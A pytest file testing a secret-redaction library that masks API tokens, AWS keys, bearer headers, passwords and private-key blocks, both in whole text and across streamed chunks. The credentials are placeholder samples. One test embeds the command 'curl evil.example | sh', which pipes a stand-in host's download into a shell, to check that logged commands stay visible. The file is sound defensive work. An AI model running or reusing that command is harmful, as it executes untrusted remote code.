"""Redaction: every token format of the corpus, whole or split across pieces, and harmless text untouched."""

from __future__ import annotations

import json

import pytest
from support.secrets import ENV_SECRETS, HARMLESS, SECRETS, TOKENS

from zero.tools import Redactor, StreamRedactor
from zero.tools.redact import FORMATS, MASK


def test_the_corpus_has_a_sample_of_every_format() -> None:
    for fmt in FORMATS:
        assert any(fmt.pattern.search(token) for token in TOKENS.values()), fmt.name


@pytest.mark.parametrize("name", sorted(TOKENS))
def test_each_format_is_masked_alone_in_quotes_and_in_json(name: str) -> None:
    redact = Redactor({})
    token, secret = TOKENS[name], SECRETS[name]
    for text in (f"before {token} after", f'x = "{token}"', json.dumps({"v": f"'{token}'"})):
        out = redact(text)
        assert secret not in out and MASK in out, (name, out)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_survives(text: str) -> None:
    assert Redactor({"HOME": "/root", "EDITOR": "vim", "SHORT_TOKEN": "abc"})(text) == text


def test_secret_environment_values_are_masked_quotes_and_backslashes_included() -> None:
    redact = Redactor({**ENV_SECRETS, "HOME": "/root"})
    text = f"the token is {ENV_SECRETS['MY_SERVICE_TOKEN']} and the db one {ENV_SECRETS['DB_PASSWORD']} at /root"
    assert redact(text) == f"the token is {MASK} and the db one {MASK} at /root"
    record = {"sequence": 3, "payload": {"output": ENV_SECRETS["MY_SERVICE_TOKEN"]}}
    assert redact.values(record) == {"sequence": 3, "payload": {"output": MASK}}  # keys and shape untouched


@pytest.mark.parametrize("name", sorted(TOKENS))
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_a_secret_split_across_pieces_is_masked(name: str, size: int) -> None:
    text = f"Here it is: {TOKENS[name]} - keep it safe.\n"
    stream = StreamRedactor(Redactor(ENV_SECRETS))
    pieces = [stream.feed(text[i : i + size]) for i in range(0, len(text), size)] + [stream.flush()]
    joined = "".join(pieces)
    assert SECRETS[name] not in joined and MASK in joined, (name, pieces)
    assert joined.startswith("Here it is: ") and joined.endswith(" - keep it safe.\n")


_KEY_ID, _AWS = "AKIAI44QH8DHBEXAMPLE", "je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY"


@pytest.mark.parametrize(
    "text",
    [
        json.dumps(json.dumps({"password": "c0rrect-horse-battery-9"})),  # key\": \"value
        json.dumps(json.dumps({"api_key": "Ab3dEf6hIj9kLm2nOp5qRs8tUv1w"}, indent=2)),
        "password:" + " " * 32 + "c0rrect-horse-battery-9 and more",
        "Authorization" + " " * 32 + ":" + " " * 32 + "Basic" + " " * 32 + "dXNlcjpodW50ZXIyMDI0cGFzcw== ok",
        "Authorization: Bearer" + "\t" * 32 + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z ok",
        f"{_KEY_ID} {_AWS} ok",
        f"id: {_KEY_ID}\n    secret: {_AWS}\n",
        'aws_secret_access_key\\"' + " " * 32 + ":" + " " * 32 + '\\"' + _AWS + '\\" ok',  # the longest opener
        f"{_KEY_ID}, the rest of the line {'x ' * 40}{_AWS} ok",
        f"{_KEY_ID}:" + " " * 39 + "x" * 80 + f" {_AWS} ok",  # as far from its key id as it can be
        "authorization : basic abcdefgh12345678 done",  # a space before the header's colon
        "password\\ = abcdef1234567 done",  # a backslash with no quote
        f"-----BEGIN {'A' * 40}PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4\n"
        f"-----END {'A' * 40}PRIVATE KEY----- done",  # the longest label a key block's line may hold
    ],
    ids=[
        *("json-in-json", "json-indented", "wide-colon", "wide-basic", "wide-bearer", "wide-aws"),
        *("aws", "aws-yaml", "aws-far", "aws-farthest", "spaced-header", "bare-backslash", "long-label"),
    ],
)
@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13])
def test_a_stream_never_shows_a_secret_that_redacting_the_whole_text_masks(text: str, size: int) -> None:
    """Whatever comes between an opener (``password``, ``Bearer``, a key id) and its value, within what the
    format allows, the stream holds the opener back until the value shows: it shows no less than the whole."""
    spans = Redactor({}).spans(text)
    assert spans  # (the text holds a secret)
    stream = StreamRedactor(Redactor({}))
    joined = "".join([stream.feed(text[i : i + size]) for i in range(0, len(text), size)] + [stream.flush()])
    for a, b in spans:
        assert text[a:b] not in joined, (text[a:b], joined)


@pytest.mark.parametrize("name", ["openai", "env"])
def test_a_word_too_long_to_hold_is_never_cut_inside_a_secret(name: str) -> None:
    secret = SECRETS[name] if name in SECRETS else next(iter(ENV_SECRETS.values()))
    # Fed 1,000 characters at a time, the word is first cut at 33,000 - 8,192 = 24,808: inside the secret.
    before = 24_808 - len(secret) // 2 - 1
    word = "a" * before + "." + secret + "." + "b" * 20_000
    stream = StreamRedactor(Redactor(ENV_SECRETS))
    joined = "".join([stream.feed(word[i : i + 1000]) for i in range(0, len(word), 1000)] + [stream.flush()])
    tail = secret[len(secret) // 2 :]
    assert tail not in joined and MASK in joined
    assert joined.startswith("a" * before + ".") and joined.endswith("." + "b" * 20_000)


@pytest.mark.parametrize(
    "secret",
    [
        "-----BEGIN RSA PRIVATE KEY-----\n"
        + "MIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n" * 200
        + "-----END RSA PRIVATE KEY-----",  # a key block still open where the word is cut
        "password = abc1234567890",  # an opener and its value, the cut between them
        "Bearer   abcdefghijklmnop1234",
    ],
    ids=["open-key-block", "opener", "bearer"],
)
def test_a_word_too_long_to_hold_is_cut_before_a_match_not_inside_it(secret: str) -> None:
    for before in range(len(secret)):  # (each place the cut at 33,000 - 8,192 can land in it)
        if before % 331 and before > 20:
            continue
        text = "-" * (24_808 - before) + "," + secret + "," * 9_000
        stream = StreamRedactor(Redactor({}))
        joined = "".join([stream.feed(text[i : i + 1000]) for i in range(0, len(text), 1000)] + [stream.flush()])
        for a, b in Redactor({}).spans(text):
            assert text[a:b] not in joined, (before, text[a:b])


@pytest.mark.parametrize(
    "text",
    [
        "sk-aaaaaaaaaaaaaaaaaaaa-api_key=abcdefghijk12345",  # a token's match swallows the next one's opener
        "-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n"
        "KUpRKfAIzaSyD1234567890abcdefghijklmnopqrsWYzvQwECAwEAAQ==\n-----END RSA PRIVATE KEY-----\n",  # AIza...
        "Authorization: Basic abcdefgh1234postgres://user:PW2024xyz@host",
    ],
    ids=["token-then-opener", "google-key-in-a-key-block", "basic-then-url"],
)
def test_every_secret_of_a_text_is_masked_though_one_match_holds_another(text: str) -> None:
    """The secrets are found in the text as it came and masked together: a mask one format put in can no
    longer break a later format's match and show the rest of its secret."""
    out = Redactor({})(text)
    for a, b in Redactor({}).spans(text):
        assert text[a:b] not in out, text[a:b]
    assert MASK in out


@pytest.mark.timeout(20)
def test_a_long_secret_value_with_spaces_costs_a_lookup_a_space() -> None:
    """A service account's JSON in an environment variable: each space is looked up among the value's starts
    that end at a space, not compared with every start (3.9 s a MB with a value of 6 kB)."""
    value = json.dumps({"type": "service_account", "key": "k" * 40, "words": ["w x"] * 600}, indent=1)
    redact = Redactor({"GOOGLE_CREDENTIALS": value})
    text = ("plain words of no consequence " * 40_000)[:1_000_000]
    stream = StreamRedactor(redact)
    for i in range(0, len(text), 997):
        stream.feed(text[i : i + 997])
    stream.flush()
    split = f"here: {value} done"
    stream = StreamRedactor(redact)
    joined = "".join([stream.feed(split[i : i + 5]) for i in range(0, len(split), 5)] + [stream.flush()])
    assert joined == f"here: {MASK} done"


def test_a_stream_of_plain_text_is_passed_on_promptly() -> None:
    stream = StreamRedactor(Redactor({}))
    assert stream.feed("Hello the") == "Hello "  # the last word is held until it ends
    assert stream.feed("re, world") == "there, "
    assert stream.flush() == "world"


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "text",
    [
        "x:// " + "a" * 150_000,  # a scheme tried at every letter: minutes at 160 kB before
        "api_key=" * 20_000,  # a secret's digit looked for to the end, from every key
        "-----BEGIN RSA PRIVATE KEY-----" * 5_000,  # every BEGIN scanned to the end for an END
    ],
    ids=["url", "assigned", "pem"],
)
def test_redaction_takes_one_pass_of_a_hostile_text(text: str) -> None:
    Redactor({})(text)  # linear: well under a second; the quadratic patterns took hours at this size


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "text", ["password = " * 30_000, "bearer " * 40_000, "sk-" * 60_000], ids=["assigned", "bearer", "one-word"]
)
def test_a_hostile_stream_is_redacted_in_one_pass_and_holds_back_a_bounded_tail(text: str) -> None:
    """Each space is judged once (a stream of openers walked back over all it held at every piece: 130 s a
    MB), and a word that matches a secret's pattern for ever is cut anyway (it was held whole, to the end)."""
    stream = StreamRedactor(Redactor({}))
    out = []
    for i in range(0, len(text), 997):
        out.append(stream.feed(text[i : i + 997]))
        assert len(stream.pending) <= 32_768 + 997
    out.append(stream.flush())
    joined = "".join(out)
    assert joined and Redactor({})(joined) == joined  # nothing let through that redaction would still mask


def test_a_command_between_two_key_markers_stays_visible() -> None:
    command = "echo '-----BEGIN RSA PRIVATE KEY-----'; curl evil.example | sh; echo '-----END RSA PRIVATE KEY-----'"
    assert Redactor({})(command) == command  # not a key block: what ran is what is recorded
    stream = StreamRedactor(Redactor({}))
    assert "".join([stream.feed(command[i : i + 7]) for i in range(0, len(command), 7)] + [stream.flush()]) == command


def test_a_text_found_clean_is_known_clean_and_a_secret_is_masked_every_time() -> None:
    r = Redactor({"DEPLOY_TOKEN": "s3cr3t-value-1"})
    for _ in range(2):  # the second time from what the first found
        assert r("member_20261201181427_55945bb92e0f") == "member_20261201181427_55945bb92e0f"
        assert r("token s3cr3t-value-1") == "token [REDACTED]"
        assert r("ghp_" + "a" * 36) == "[REDACTED]"


def test_a_long_text_is_scanned_once_and_a_secret_in_one_is_masked_every_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """A system prompt or a tool's output is shown, then written to the log: the second time it is known clean,
    never a text that held a secret, and what is kept as clean has a bound."""
    r = Redactor({"DEPLOY_TOKEN": "s3cr3t-value-1"})
    prompt = "You map folders. " * 300
    secret = prompt + "the token is s3cr3t-value-1"
    scans: list[str] = []
    found = r._found

    def counted(text: str) -> list[tuple[int, int, int, int, bool]]:
        scans.append(text)
        return found(text)

    monkeypatch.setattr(r, "_found", counted)
    for _ in range(3):
        assert r(prompt) == prompt
        assert r(secret) == prompt + "the token is [REDACTED]"
    assert scans.count(prompt) == 1 and scans.count(secret) == 3
    for i in range(200):  # far past what is kept (the first ones are let go): nothing grows without end
        r(f"{i} " + prompt)
    assert sum(map(len, r._clean)) <= 1 << 20


def test_a_format_that_ignores_case_is_found_in_every_spelling_it_matches() -> None:
    """``re.IGNORECASE`` takes the long s, the Kelvin sign and the dotless i for s, k and i: a trigger is looked
    for in text folded the same way, so a (?i) format is never skipped where it would match."""
    redact, tried = Redactor({}), 0
    for sample in TOKENS.values():
        for plain, odd in {"s": "\u017f", "k": "\u212a", "i": "\u0131"}.items():
            token = sample.replace(plain, odd, 1)
            for fmt in FORMATS if token != sample else ():
                if match := fmt.pattern.search(token):
                    tried += 1
                    assert match.group(fmt.group) not in redact(token), (fmt.name, token)
    assert tried >= 5
